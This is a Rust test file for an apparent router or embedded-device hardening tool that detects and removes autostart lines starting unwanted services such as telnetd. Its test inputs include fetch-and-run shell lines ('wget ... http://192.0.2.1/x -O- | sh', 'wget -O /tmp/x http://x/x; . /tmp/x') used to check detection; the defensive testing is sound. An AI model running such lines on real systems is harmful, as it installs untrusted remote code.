//! Tables of the programs that a line starts, and of the file's text afterwards.

use super::entry::{AutostartEntry, Reading, SAYS_BYTES_MAX, STARTERS_MAX};
use super::reading::read;
use super::*;
use crate::wall::policy::tests::bare;
use crate::wall::policy::{Reach, Service};
use crate::wall::process_snapshot::{Program, Transport};
use crate::wall::report::Judgement;
use alloc::vec;
use alloc::vec::Vec;

mod script_cases;

use Kind::{Inetd, Inittab, Script, Xinetd};
use script_cases::{SCRIPTS, TABLES};

/// The lines of a file that start unwanted programs, in their order.
fn autostart_entries(kind: Kind, bytes: &[u8]) -> Vec<AutostartEntry> {
    read(kind, bytes, &[]).entries
}

#[test]
fn every_line_that_starts_what_nobody_wants_is_found_and_goes() {
    for (kind, text, expected, after) in TABLES {
        found_and_gone(*kind, text, expected, after);
    }
    for (text, expected, after) in SCRIPTS {
        found_and_gone(Script, text, expected, after);
    }
}

fn found_and_gone(kind: Kind, text: &str, expected: &[(u32, Does, &str)], after: &str) {
    let found = autostart_entries(kind, text.as_bytes());
    // A variable's name stands for a value that is not known.
    let seen: Vec<_> = found.iter().map(|one| (one.line, one.does, one.program.as_str())).collect();
    assert_eq!(seen, expected, "{text}");
    let mut bytes = text.as_bytes().to_vec();
    // A table's earlier entries move nothing: numbers stay, but for xinetd's.
    for one in found.iter().rev() {
        assert_eq!(one.fixed, None, "{one:?}");
        let edit = edit::without(kind, &bytes, one.line, &one.says);
        let edit = edit.unwrap_or_else(|why| panic!("{one:?} of {text}: {why}")).unwrap();
        let back = edit::taken_back(&edit.bytes, one.line, &edit.was, &edit.is);
        assert_eq!(back.as_ref(), Some(&bytes), "{text}");
        bytes = edit.bytes;
    }
    assert_eq!(autostart_entries(kind, &bytes), [], "{}", String::from_utf8_lossy(&bytes));
    if !after.is_empty() {
        assert_eq!(String::from_utf8_lossy(&bytes), *after);
    }
}

#[test]
fn what_cannot_be_told_is_said_and_what_cannot_be_proven_is_not_changed() {
    let doubt = |text: &str| read(Script, text.as_bytes(), &[]).doubt.map(|doubt| doubt.line);
    for (text, line) in [
        ("a\n$(pick) -x\n", Some(2)),
        ("eval \"$(pick)\"\n", Some(1)),
        ("read X\n\n$X now\n", Some(3)),
        (". \"$(pick)\"\n", Some(1)),
        ("never() { $(pick); }\n", None),
        ("case $1 in start) echo;; esac\n\"$@\"\n", None),
        ("X=/bin/a; $X; eval \"export A=$1\"\n", None),
        ("echo $(pick)\n", None),
        (". \"$ROOT/lib/functions.sh\"\n. ${ROOT}/lib/x.sh\nprocd_append_param command $args\n", None),
    ] {
        assert_eq!(doubt(text), line, "{text}");
    }
    for text in [
        "for s in telnetd httpd; do $s & done\n",
        "C='sleep 1; telnetd'; eval \"$C\"\n",
        "exec -a other telnetd\n",
        "wget -O /tmp/x http://x/x; . /tmp/x\n",
        "#!/lib/init/init-d-script\nDAEMON=/usr/sbin/sshd\n",
        "#!/sbin/openrc-run\ncommand=/usr/sbin/sshd\n",
    ] {
        let all = autostart_entries(Script, text.as_bytes());
        assert!(all.len() == 1 && all[0].fixed.is_some(), "{text}: {all:?}");
        assert!(edit::without(Script, text.as_bytes(), all[0].line, &all[0].says).is_err(), "{text}");
    }
    let supervised = autostart_entries(Kind::Supervised, b"#!/bin/sh\nexec telnetd -F\n");
    assert!(supervised[0].fixed.is_some(), "it would start again each second");
    let framework = b"#!/usr/bin/env /lib/runit/invoke-run\nsshd -t || exit\nexec sshd -D\n";
    assert_eq!(autostart_entries(Kind::Supervised, framework).len(), 1);
    let python = b"#!/usr/bin/env python3\ntelnetd\n";
    assert_eq!(read(Script, python, &[]), Reading::default());
}

#[test]
fn a_script_leads_to_the_scripts_that_it_calls() {
    let text = "#!/bin/sh /etc/rc.common\nD=/app\n$D/start.sh &\nsh /opt/a b\n. /lib/functions.sh\nfor i in /etc/rc.d/S??*; do\n $i start\ndone\n\
                run-parts /etc/ppp/up.d\nnice /opt/c\nnever() { /opt/no; }\nstart() { /opt/yes; }\nboot.sh\nservice odd start\n";
    let reading = read(Script, text.as_bytes(), &[]);
    let seen: Vec<_> =
        reading.calls.iter().map(|call| (call.path.as_str(), call.folder, call.sourced)).collect();
    let expected = [
        ("/app/start.sh", false, false),
        ("/opt/a", false, false),
        ("/lib/functions.sh", false, true),
        ("/etc/rc.d", true, false),
        ("/etc/ppp/up.d", true, false),
        ("/opt/c", false, false),
        ("/opt/yes", false, false),
        ("boot.sh", false, false),
        ("/etc/init.d/odd", false, false),
        ("/etc/rc.common", false, true),
    ];
    assert_eq!(seen, expected);
    // A library's function starts something where another file calls it.
    let library = b"up() { telnetd; }\n";
    assert_eq!(read(Script, library, &[]).entries, []);
    let words = read(Script, b". /lib/x.sh\nup\n", &[]).words;
    assert_eq!(read(Script, library, &words).entries.len(), 1);
}

#[test]
fn a_line_that_has_changed_is_left_alone() {
    let text = b"::respawn:telnetd\n::respawn:x\n";
    let found = autostart_entries(Inittab, text);
    assert_eq!(edit::without(Inittab, text, 1, "::respawn:telnetd -F"), Ok(None));
    assert_eq!(edit::without(Inittab, text, 2, &found[0].says), Ok(None));
    assert_eq!(edit::without(Inittab, text, 0, &found[0].says), Ok(None));
    assert!(edit::without(Inittab, text, 1, &found[0].says).unwrap().is_some());
    // The line is put back at its place, or where it is alone.
    let (was, is) = (&b"telnetd"[..], &b"true"[..]);
    let back = |text: &str| {
        edit::taken_back(text.as_bytes(), 2, was, is).map(|text| String::from_utf8(text).unwrap())
    };
    assert_eq!(back("true\ntrue\ntrue"), Some("true\ntelnetd\ntrue".into()));
    assert_eq!(back("new\nnew\ntrue\r\n"), Some("new\nnew\ntelnetd\r\n".into()));
    assert_eq!(back("true\nnew\ntrue\n"), None, "which of them?");
    assert_eq!(back("true x\n"), None);
}

#[test]
fn a_file_without_end_is_read_in_bounds() {
    let many = "telnetd\n".repeat(5_000);
    assert_eq!(autostart_entries(Script, many.as_bytes()).len(), STARTERS_MAX);
    let long = ["telnetd ", &"x".repeat(8_000), "日"].concat();
    let found = autostart_entries(Script, long.as_bytes());
    assert_eq!(found[0].says.len(), SAYS_BYTES_MAX);
    assert!(edit::without(Script, long.as_bytes(), 1, &found[0].says).is_err(), "too long to be remembered");
    for deep in
        ["$(", "{ ", "case x in y) ", "\"$(", "(", "sh -c '", "eval \"", "${a:-", "`", "<<E\n", "a() { "]
    {
        assert!(autostart_entries(Script, deep.repeat(4_000).as_bytes()).len() <= STARTERS_MAX);
    }
    // Without a bound this takes minutes.
    let many: alloc::string::String = (0..255).map(|number| alloc::format!("v=$v$v$v$v{number};")).collect();
    let many = [&many[..], &"\n$v$v$v$v $v$v$v $v$v $v$v".repeat(1500)].concat();
    assert!(read(Script, many.as_bytes(), &[]).doubt.is_some());
    let names = "a=$a$b;b=$b$a;a=$b$b;$a $b\n".repeat(2_000);
    assert!(autostart_entries(Script, names.as_bytes()).len() <= STARTERS_MAX);
}

#[test]
fn what_was_not_read_makes_the_measure_one_that_cannot_tell() {
    let unread = crate::fault::text(format_args!("/app/start.sh line 3: what $RUN is, is not known"));
    let starter = autostart_entries(Inittab, b"::respawn:telnetd").remove(0);
    let telnet = FoundAutostart {
        file: "/etc/inittab".into(),
        kind: Inittab,
        starter,
        origin: Origin::Unknown,
        fixed: None,
    };
    let judged = |found: &[FoundAutostart]| {
        let mut report = Report::default();
        judge(found, Some(&unread), &policy(vec![]), &mut report);
        report.judgement(Measure::Respawn)
    };
    assert_eq!(judged(&[]), Judgement::CannotTell(unread.clone()));
    assert_eq!(judged(&[telnet]), Judgement::Weak, "a doubt hides no finding");
}

#[test]
fn a_line_that_cannot_be_changed_is_told_and_firmware_that_fetches_is_no_infection() {
    let found = |text: &str, fixed: Option<&str>, origin| {
        let starter = autostart_entries(Inittab, text.as_bytes()).remove(0);
        let fixed = fixed.map(|why| crate::fault::text(format_args!("{why}")));
        [FoundAutostart { file: "/etc/inittab".into(), kind: Inittab, starter, origin, fixed }]
    };
    let judged = |found: &[FoundAutostart], policy: &Policy| {
        let mut report = Report::default();
        judge(found, None, policy, &mut report);
        report
    };
    let strict = policy(vec![]);
    let report = judged(&found("::respawn:telnetd", None, Origin::Unknown), &strict);
    assert_eq!(&*report.findings[0].what, "/etc/inittab line 1 starts telnet: ::respawn:telnetd");
    let remediation =
        Remediation::StopStarting { file: "/etc/inittab".into(), line: 1, says: "::respawn:telnetd".into() };
    assert_eq!(report.remediations(), [&remediation]);
    let report = judged(&found("::respawn:telnetd", Some("it is read-only"), Origin::Firmware), &strict);
    assert!(matches!(report.judgement(Measure::Respawn), Judgement::CannotEnforce(_)));
    let fetches = "::once:wget http://192.0.2.1/x -O- | sh";
    let report = judged(&found(fetches, None, Origin::Added), &strict);
    assert!(!report.findings[0].is_infection() && report.findings[0].remediation.is_some());
    let report = judged(&found(fetches, None, Origin::OverFirmware), &strict);
    assert!(!report.findings[0].is_infection() && report.findings[0].remediation.is_none());
    let report = judged(&found(fetches, None, Origin::Firmware), &strict);
    assert!(report.findings.is_empty() && report.notes.len() == 1);
    let allowed = policy(vec![Service {
        program: "telnetd".into(),
        transport: Transport::Tcp,
        ports: (23, 23),
        reach: Reach::Lan,
        public: false,
    }]);
    assert_eq!(judged(&found("::respawn:/bin/telnetd", None, Origin::Added), &allowed), Report::default());
}

#[test]
fn only_the_program_that_reads_a_file_is_told_of_its_change() {
    let process = |pid, name: &str, user| Process {
        id: ProcessId { pid, started: 1 },
        parent: 0,
        user,
        program: Program::File {
            path: ["/sbin/", name].concat(),
            there: true,
            replaced: false,
            medium: crate::wall::process_snapshot::Medium::Firmware,
            elsewhere: false,
        },
        name: name.into(),
        first_word: name.into(),
        second_word: String::new(),
        stopped: false,
        namespaced: false,
        holds_watchdog: false,
        writes_flash: false,
    };
    let pid = |kind, processes: &[Process]| hears(kind, processes).map(|id| id.pid);
    let all = [process(1, "init", 0), process(7, "inetd", 0), process(8, "xinetd", 5)];
    assert_eq!(pid(Inittab, &all), Some(1));
    assert_eq!(pid(Inetd, &all), Some(7));
    assert_eq!(pid(Xinetd, &all), None, "not root's");
    assert_eq!(pid(Script, &all), None);
    assert_eq!(pid(Inittab, &[process(1, "sh", 0), process(2, "init", 0)]), None);
    assert_eq!(pid(Inetd, &[process(7, "inetd", 0), process(9, "inetd", 0)]), None, "which of them?");
}

fn policy(services: Vec<Service>) -> Policy {
    Policy { services, ..bare() }
}
